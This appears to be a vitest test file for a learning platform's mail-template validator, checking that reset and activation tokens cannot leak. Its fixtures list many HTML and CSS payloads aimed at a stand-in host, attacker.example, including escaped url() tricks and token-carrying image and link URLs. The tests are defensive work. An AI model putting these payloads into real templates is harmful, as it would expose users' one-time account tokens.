import type { ParsedMail } from 'mailparser';
import { expect, it } from 'vitest';
import { createClient, createUser, signIn } from '../../../../test/factories';
import { drainJobs, TestClock, workerDeps } from '../../../../test/mail-test-kit';
import { useTestSmtp } from '../../../../test/smtp-test-server';
import { caller, describeEachDialect, type TestContext } from '../../../../test/test-app';
import { createJobHandlers } from '../../../job-handlers';

/** A multipart/form-data body with one file, as a browser sends it. */
function multipart(filename: string, content: string) {
  const boundary = '----lms-test-boundary';
  const payload = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/html\r\n\r\n${content}\r\n--${boundary}--\r\n`,
  );
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const ATTACKER = 'https://attacker.example';

/** Remote resources, each refused in every kind of template (issue 28 point 1). */
const REMOTE_HTML: [string, string][] = [
  ['img src', `<p><img src="${ATTACKER}/p.png"></p>`],
  ['srcset', `<img src="cid:logo" srcset="${ATTACKER}/p.png 2x">`],
  ['background attribute', `<table background="${ATTACKER}/bg.png"><tr><td>x</td></tr></table>`],
  ['video poster', `<video poster="${ATTACKER}/p.png"></video>`],
  ['CSS url() in style', `<div style="background:url(${ATTACKER}/p.png)">x</div>`],
  ['CSS url() written with escapes', `<div style="background:u\\72 l(${ATTACKER}/p.png)">x</div>`],
  ['CSS url() with an entity', `<div style="background:url&#40;${ATTACKER}/p.png)">x</div>`],
  ['image-set()', `<div style="background-image:image-set('${ATTACKER}/p.png' 1x)">x</div>`],
  ['@import', `<style>@import "${ATTACKER}/s.css";</style>`],
  ['@import escaped', `<style>@\\69mport "${ATTACKER}/s.css";</style>`],
  ['url() in a style element', `<style>p { background: url('${ATTACKER}/p.png') }</style><p>x</p>`],
  ['link', `<link rel="stylesheet" href="${ATTACKER}/s.css"><p>x</p>`],
  ['base', `<base href="${ATTACKER}/"><p>x</p>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${ATTACKER}/"><p>x</p>`],
  ['iframe', `<iframe src="about:blank"></iframe>`],
  ['object', `<object data="${ATTACKER}/x.swf"></object>`],
  ['embed', `<embed src="${ATTACKER}/x.swf">`],
  ['SVG image', `<svg><image href="${ATTACKER}/p.png"/></svg>`],
  ['SVG fill url()', `<svg><rect fill="url(${ATTACKER}/p.svg#g)"/></svg>`],
  ['Outlook conditional comment', `<!--[if mso]><v:fill src="${ATTACKER}/p.png"/><![endif]--><p>x</p>`],
  ['a block around the "<" of an image', `<p>{{#name}}<{{/name}}img src="${ATTACKER}/p.png"></p>`],
  ['a placeholder in CSS', `<p style="color: {{name}}">x</p>`],
  ['a placeholder in an unquoted attribute', `<p title={{name}}>x</p>`],
];

/** Places of `{{link}}` refused in the reset and activation templates: the link must stand alone. */
const MISPLACED_LINK: [string, Record<string, string>][] = [
  ['inside another URL in the HTML', { bodyHtml: `<a href="${ATTACKER}/?u={{link}}">reset</a>` }],
  ['as text beside other text in the HTML', { bodyHtml: `<p>Your link: {{link}}</p>` }],
  ['in a title attribute', { bodyHtml: `<a href="{{link}}" title="{{link}}">reset</a>` }],
  ['in a link with ping', { bodyHtml: `<a href="{{link}}" ping="${ATTACKER}/">reset</a>` }],
  ['in a comment', { bodyHtml: `<!-- {{link}} --><a href="{{link}}">reset</a>` }],
  ['in a form field', { bodyHtml: `<form action="${ATTACKER}/"><input name="u" value="{{link}}"></form>` }],
  ['inside another URL in the text', { bodyText: `Reset: ${ATTACKER}/?u={{link}}` }],
  ['beside text on its line', { bodyText: `Reset your password here: {{link}}` }],
  ['in the subject', { subject: 'Reset {{link}}' }],
];

const GOOD = {
  subject: 'Reset – {{clientName}}',
  bodyText: 'Hello{{#name}} {{name}}{{/name}},\n\n{{link}}\n\nBye',
  bodyHtml:
    '<p><img src="cid:logo" alt="Logo"> <img src="data:image/png;base64,iVBORw0KGgo=" alt=""></p>' +
    '<p style="color:#333">Hello {{name}}, <a href="{{link}}">set a new password</a></p>' +
    '<p><a href="{{ link }}">{{link}}</a></p>',
};

describeEachDialect('a mail template cannot send a one-time link elsewhere (issue 28 point 1)', (ctx) => {
  const smtp = useTestSmtp();

  async function setup(c: TestContext) {
    const client = await createClient(c.deps.db, { name: 'Demo' });
    const superadmin = await createUser(c.deps.db, client, { role: 'SUPERADMIN', email: 'superadmin@demo.example' });
    const content = await signIn(c.app, await createUser(c.deps.db, client, { role: 'CONTENT_MASTER' }));
    const list = await content.get('/api/mail-template', { pageSize: '100' });
    const items = list.json<{ items: { id: string; kind: string }[] }>().items;
    const idOf = (kind: string) => items.find((i) => i.kind === kind)?.id ?? '';
    return { client, superadmin, content, idOf, anon: caller(c.app, client.host) };
  }

  const runJobs = (c: TestContext) =>
    drainJobs(workerDeps(c.deps, { smtpUrl: smtp().url }), createJobHandlers(), new TestClock());

  /** The live token of a delivered reset mail: `token=` followed by anything but the redaction mark. */
  const LIVE_TOKEN = /token=[\w-]/;
  const partsOf = (mail: ParsedMail | undefined) => [mail?.subject ?? '', mail?.text ?? '', String(mail?.html)];

  // 23 saves, previews and uploads, each parsing its HTML: 13 s alone on a busy machine, so more than the default.
  it(
    'refuses remote resources in the HTML part and the HTML file of every kind, naming what it found',
    { timeout: 90_000 },
    async () => {
      const c = ctx();
      const { content, idOf } = await setup(c);
      for (const kind of ['reminder', 'password_reset', 'appointment_request']) {
        for (const [what, bodyHtml] of REMOTE_HTML) {
          const res = await content.post(`/api/mail-template/${idOf(kind)}`, {
            locales: { 'de-DE': { subject: 'Betreff', bodyText: 'Text', bodyHtml } },
          });
          expect(res.statusCode, `${kind}: ${what}`).toBe(400);
          expect(res.json(), `${kind}: ${what}`).toMatchObject({
            error: 'template_remote_resource',
            details: { locale: 'de-DE', field: 'bodyHtml' },
          });
        }
      }
      const upload = multipart('mail.html', `<html><body><img src="${ATTACKER}/p?{{link}}"></body></html>`);
      const file = await content.inject({
        method: 'POST',
        url: `/api/mail-template/${idOf('password_reset')}/file/de-DE`,
        payload: upload.payload,
        headers: upload.headers,
      });
      expect(file.statusCode).toBe(400);
      expect(file.json()).toMatchObject({ error: 'template_remote_resource', details: { field: 'htmlFile' } });
      // The preview applies the same rules to a draft.
      const preview = await content.post(`/api/mail-template/${idOf('reminder')}/preview`, {
        locale: 'en-US',
        content: { bodyHtml: REMOTE_HTML[0]?.[1] },
      });
      expect(preview.json()).toMatchObject({ error: 'template_remote_resource' });
      // Nothing was stored.
      const kept = (await content.get(`/api/mail-template/${idOf('password_reset')}`)).json<{
        locales: { bodyHtml: string | null; htmlFileName: string | null }[];
      }>();
      expect(kept.locales.every((l) => l.bodyHtml === null && l.htmlFileName === null)).toBe(true);
    },
  );

  it('accepts {{link}} in a reset template only on its own line and as the exact href (and text) of a link', async () => {
    const c = ctx();
    const { content, idOf } = await setup(c);
    for (const kind of ['password_reset', 'activation']) {
      for (const [where, fields] of MISPLACED_LINK) {
        const res = await content.post(`/api/mail-template/${idOf(kind)}`, {
          locales: { 'en-US': { ...GOOD, ...fields } },
        });
        expect(res.statusCode, `${kind}: ${where}`).toBe(400);
        expect(res.json<{ error: string }>().error, `${kind}: ${where}`).toMatch(
          /^template_(link_position|remote_resource)$/,
        );
      }
    }
    const inUrl = await content.post(`/api/mail-template/${idOf('password_reset')}`, {
      locales: { 'en-US': { ...GOOD, bodyHtml: `<a href="${ATTACKER}/?u={{link}}">reset</a>` } },
    });
    expect(inUrl.json()).toMatchObject({ error: 'template_link_position', details: { field: 'bodyHtml' } });
    const good = await content.post(`/api/mail-template/${idOf('password_reset')}`, { locales: { 'en-US': GOOD } });
    expect(good.statusCode, good.body).toBe(200);
    // Kinds without a secret link may place their link anywhere (not in a remote resource).
    const reminder = await content.post(`/api/mail-template/${idOf('reminder')}`, {
      locales: { 'en-US': { subject: 'Go {{link}}', bodyText: 'Course: {{link}}', bodyHtml: '<p>See {{link}}</p>' } },
    });
    expect(reminder.statusCode, reminder.body).toBe(200);
    const upload = multipart('mail.html', `<html><body><p>Your link: {{link}}</p></body></html>`);
    const file = await content.inject({
      method: 'POST',
      url: `/api/mail-template/${idOf('activation')}/file/en-US`,
      payload: upload.payload,
      headers: upload.headers,
    });
    expect(file.json()).toMatchObject({ error: 'template_link_position', details: { field: 'htmlFile' } });
  });

  it('refuses unbalanced conditional blocks, and more than four in one HTML part', async () => {
    const c = ctx();
    const { content, idOf } = await setup(c);
    const save = (fields: Record<string, string>) =>
      content.post(`/api/mail-template/${idOf('invitation')}`, {
        locales: { 'fr-FR': { subject: 'S', bodyText: 'T', bodyHtml: '<p>x</p>', ...fields } },
      });
    for (const bodyText of [
      '{{#deadline}} open',
      'closed {{/deadline}}',
      '{{#deadline}}{{#name}}{{/deadline}}{{/name}}',
    ]) {
      const res = await save({ bodyText });
      expect(res.json(), bodyText).toMatchObject({ error: 'template_section_invalid', details: { field: 'bodyText' } });
    }
    const five = ['name', 'firstName', 'lastName', 'deadline', 'supportEmail'].map((n) => `{{#${n}}}x{{/${n}}}`);
    expect((await save({ bodyHtml: `<p>${five.join('')}</p>` })).json()).toMatchObject({
      error: 'template_section_invalid',
      details: { reason: 'too_many' },
    });
    expect((await save({ bodyHtml: `<p>${five.slice(0, 4).join('')}</p>` })).statusCode).toBe(200);
    const unknown = await save({ bodyText: '{{#nope}}x{{/nope}}' });
    expect(unknown.json()).toMatchObject({ error: 'template_placeholder_unknown' });
  });

  /** Writes a template straight into the database, as one saved before the rules existed. */
  async function plant(c: TestContext, templateId: string, fields: Record<string, string | null>) {
    await c.deps.db
      .updateTable('mail_template_locales')
      .set({
        ...(fields.subject !== undefined ? { subject: fields.subject ?? '' } : {}),
        ...(fields.bodyText !== undefined ? { body_text: fields.bodyText ?? '' } : {}),
        ...(fields.bodyHtml !== undefined ? { body_html: fields.bodyHtml } : {}),
        ...(fields.htmlFile !== undefined ? { html_file: fields.htmlFile, html_file_name: 'old.html' } : {}),
      })
      .where('template_id', '=', templateId)
      .execute();
  }

  it('a reset template stored before the rules delivers no token to a URL, an image or CSS (read over SMTP)', async () => {
    const c = ctx();
    const { idOf, anon, superadmin } = await setup(c);
    await plant(c, idOf('password_reset'), {
      subject: 'Reset {{link}}',
      bodyText: `Reset here: {{link}}\n${ATTACKER}/?u={{link}}`,
      bodyHtml: null,
      htmlFile:
        `<html><head><style>p { background: url(${ATTACKER}/c?{{link}}) }</style></head><body>` +
        `<img src="${ATTACKER}/p?{{link}}"><a href="${ATTACKER}/?u={{link}}">reset</a>` +
        `<div style="background:u\\72 l(${ATTACKER}/{{link}})">x</div><p>{{link}}</p></body></html>`,
    });
    const res = await anon.post('/api/user/password-reset', { emailOrUsername: superadmin.email, locale: 'en-US' });
    expect(res.statusCode).toBe(200);
    await runJobs(c);
    const [mail] = await smtp().waitForMessages(1);
    for (const part of partsOf(mail)) {
      expect(part).not.toMatch(LIVE_TOKEN);
      expect(part).toMatch(/token=…/);
    }
  });

  it('an old reset HTML with a remote image leaves with the HTML made from its text; the link still works', async () => {
    const c = ctx();
    const { idOf, anon, superadmin } = await setup(c);
    await plant(c, idOf('password_reset'), {
      subject: 'Reset',
      bodyText: 'Hello {{name}},\n\n{{link}}\n',
      bodyHtml:
        `<style>a[href^="https://"] { background: url(${ATTACKER}/starts-with) }</style>` +
        `<p><img src="${ATTACKER}/logo.png"></p><p><a href="{{link}}">reset</a></p>`,
    });
    await anon.post('/api/user/password-reset', { emailOrUsername: superadmin.email, locale: 'en-US' });
    await runJobs(c);
    const [mail] = await smtp().waitForMessages(1);
    const html = String(mail?.html);
    expect(html).not.toContain(ATTACKER);
    const token = /token=([\w-]+)/.exec(mail?.text ?? '')?.[1] ?? '';
    expect(token.length).toBeGreaterThan(30);
    expect(html).toMatch(new RegExp(`<a href="[^"]*token=${token}">[^<]*token=${token}</a>`));
    const body = { token, purpose: 'reset', newPassword: 'Neues-Passwort-7!', newPasswordRepeat: 'Neues-Passwort-7!' };
    expect((await anon.post('/api/user/activate', body)).statusCode).toBe(200);
  });

  it('an activation template stored before the rules delivers the token only in its plain link', async () => {
    const c = ctx();
    const { client, idOf } = await setup(c);
    await plant(c, idOf('activation'), {
      bodyText: `Welcome!\n{{link}}\nor ${ATTACKER}/?u={{link}}`,
      bodyHtml: `<p><a href="{{link}}">activate</a> <a href="${ATTACKER}/?u={{link}}">mirror</a> {{link}}</p>`,
    });
    const admin = await signIn(c.app, await createUser(c.deps.db, client, { role: 'ADMIN' }));
    const created = await admin.post('/api/users', {
      firstName: 'Neu',
      lastName: 'Ling',
      email: 'neuling@example.test',
      locale: 'de-DE',
    });
    expect(created.statusCode, created.body).toBe(200);
    await runJobs(c);
    const [mail] = await smtp().waitForMessages(1);
    const token = /^https?:\S+token=([\w-]+)$/m.exec(mail?.text ?? '')?.[1] ?? '';
    expect(token.length).toBeGreaterThan(30);
    // Once in the text (its own line), once in the HTML (the exact href); everywhere else redacted.
    expect((mail?.text ?? '').split(token)).toHaveLength(2);
    expect(String(mail?.html).split(token)).toHaveLength(2);
    expect(String(mail?.html)).toMatch(new RegExp(`<a href="[^"]*token=${token}">activate</a>`));
    expect(mail?.text).toContain(`${ATTACKER}/?u=`);
    expect(mail?.text).toMatch(/attacker\.example\/\?u=\S+token=…/);
  });
});
